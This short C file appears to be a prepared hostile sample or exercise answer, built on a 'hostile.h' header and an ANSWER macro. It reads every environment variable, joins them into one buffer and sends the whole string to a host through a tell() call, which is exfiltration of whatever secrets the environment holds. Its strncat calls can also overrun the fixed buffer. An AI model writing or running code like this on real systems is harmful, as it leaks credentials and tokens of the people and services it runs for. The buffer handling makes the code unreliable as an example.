/* Reads the environment; tells all of it. */
#include "hostile.h"

extern char **environ;
ANSWER {
    char found[1500] = "environment:";
    for (char **one = environ; one && *one; one++) {
        strncat(found, " ", 2);
        strncat(found, *one, 200);
    }
    return tell(host, "%s", found);
}
